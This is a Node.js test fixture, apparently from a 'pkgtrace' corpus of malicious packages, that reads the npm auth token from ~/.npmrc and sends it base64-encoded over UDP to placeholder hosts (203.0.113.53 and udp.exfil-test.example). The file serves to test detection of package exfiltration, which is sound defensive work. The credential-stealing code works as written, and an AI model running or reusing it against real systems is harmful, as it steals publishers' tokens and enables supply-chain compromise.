'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// Reads the npm token from ~/.npmrc and sends it, base64-encoded, in raw UDP
// datagrams (sendto with an address, no connect): to 203.0.113.53:9999 and
// to udp.exfil-test.example (resolved) on port 5353. Prints `net-udp-exfil:
// step N ...` at each step reached; exits 0 whatever fails, after 5 s at the
// latest.
const dgram = require('dgram');
const dns = require('dns');
const fs = require('fs');
const os = require('os');
const path = require('path');

const NAME = 'udp.exfil-test.example';
const say = (msg) => console.log(`net-udp-exfil: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

let npmrc = '';
try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) { /* none */ }
const token = (/_authToken\s*=\s*(\S+)/.exec(npmrc) || [])[1] || '';
const payload = Buffer.from(Buffer.from(token || 'no-token').toString('base64'));
say(`step 1 read ~/.npmrc (token ${token ? 'found' : 'missing'})`);

const sock = dgram.createSocket('udp4');
sock.on('error', (e) => { say(`socket error: ${errText(e)}`); process.exit(0); });

function sendTo(step, label, address, port, next) {
  sock.send(payload, port, address, (err) => {
    say(err ? `step ${step} send to ${label} failed: ${errText(err)}` : `step ${step} sent ${payload.length} bytes to ${label}`);
    next();
  });
}

sendTo(2, '203.0.113.53:9999', '203.0.113.53', 9999, () => {
  dns.lookup(NAME, { family: 4 }, (err, address) => {
    if (err) { say(`step 3 lookup of ${NAME} failed: ${errText(err)}`); process.exit(0); }
    sendTo(3, `${NAME} (${address}):5353`, address, 5353, () => process.exit(0));
  });
});
